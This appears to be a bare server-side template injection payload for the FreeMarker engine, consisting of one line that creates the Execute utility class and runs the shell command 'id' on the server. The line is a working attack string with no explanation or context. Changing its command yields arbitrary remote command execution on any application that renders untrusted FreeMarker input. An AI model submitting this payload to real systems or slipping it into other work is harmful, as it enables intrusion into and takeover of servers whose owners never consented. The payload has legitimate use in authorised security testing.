<#assign runner = "freemarker.template.utility.Execute"?new()>${runner("id")}
